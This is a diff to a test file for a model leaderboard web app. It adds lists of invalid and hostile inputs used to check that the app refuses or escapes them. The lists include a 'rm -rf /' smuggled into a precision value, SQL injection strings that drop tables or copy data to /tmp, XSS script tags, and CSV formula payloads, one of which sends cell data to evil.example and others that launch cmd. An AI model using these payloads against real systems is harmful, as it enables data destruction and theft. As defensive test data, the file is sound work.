@@ -44,3 +44,51 @@ PRECISIONS = ["int4", "int8", "8bit", "fp8", "bf16; rm -rf /", "<script>", "../f
 SEARCHES = ["'; DROP TABLE scores; --", "%", "_", "\\", "' OR '1'='1", "\" OR 1=1 --", "*", "[a-z]+", "(", ")", ";;;",
             "\x00", "a" * 10_000, "<script>alert(1)</script>", "'; COPY scores TO '/tmp/leak.csv'; --",
             "1 UNION SELECT * FROM runs", "ATTACH '/tmp/x.db' AS x", "%' --", "'||'", "NULL", "\u202e", "😀", "中文", "ﷺ"]
+
+# API arguments of the wrong type, size or range: (endpoint, JSON text of the data list). Each is
+# refused with one short message naming the argument (JSON text, so that 1e400 and 10**30 arrive as sent).
+API_ARGUMENTS = [
+    ("samples", '["RUN", "TASK", "", "", false, 1000000000000000000000000000000, 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, 1e400, 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, -1e400, 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, 1.5, 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, 0, 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, "1; DROP TABLE runs", 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, [1], 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, {"a": 1}, 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, true, 20]'),
+    ("samples", '["RUN", "TASK", "", "", false, 1, 100000]'),
+    ("samples", '["RUN", "TASK", "", "", "maybe", 1, 20]'),
+    ("samples", '["RUN", "TASK", "", "", 7, 1, 20]'),
+    ("samples", '[123, "TASK", "", "", false, 1, 20]'),
+    ("samples", '["RUN", ["TASK"], "", "", false, 1, 20]'),
+    ("samples", '["", "TASK", "", "", false, 1, 20]'),
+    ("leaderboard_table", '[5, "", "", "*", "", "", "", ""]'),
+    ("leaderboard_table", '[true, "", "", "*", "", "", "", ""]'),
+    ("leaderboard_table", '[{"a": 1}, "", "", "*", "", "", "", ""]'),
+    ("leaderboard_table", '["", [1, 2], "", "*", "", "", "", ""]'),
+    ("leaderboard_table", '["", "", 1e400, "*", "", "", "", ""]'),
+    ("leaderboard_table", '["", "", "", 42, "", "", "", ""]'),
+    ("leaderboard_table", '["' + "x," * 6000 + '", "", "", "*", "", "", "", ""]'),
+    ("per_language", '[12, "", "", ""]'),
+    ("per_category", '["", false, "", ""]'),
+    ("parity", '["", "", "", 3.14]'),
+    ("language_difficulty", '[null, 1]'),
+    ("compare", '[1, 2, "", ""]'),
+    ("compare", '["", "", "", ""]'),
+    ("model_results", '[["org/model"]]'),
+    ("model_results", '["' + "m" * 5000 + '"]'),
+    ("submit", '[5, "main", "auto"]'),
+    ("submit", '["org/model", 1.5, "auto"]'),
+    ("submit", '["org/model", "main", ["auto"]]'),
+    ("download_samples", '["' + "m" * 5000 + '", "csv"]'),
+    ("download_samples", '["", "csv"]'),
+]
+
+# Model outputs a spreadsheet would run as formulas when a CSV is opened (OWASP "CSV injection").
+FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
+
+# Model names that look like links but are not the model's own Hub page.
+LINKY_NAMES = ["see https://evil.example/x and www.evil.example", "/srv/models/www.evil.example",
+               "mail admin@evil.example now", "http://evil.example"]
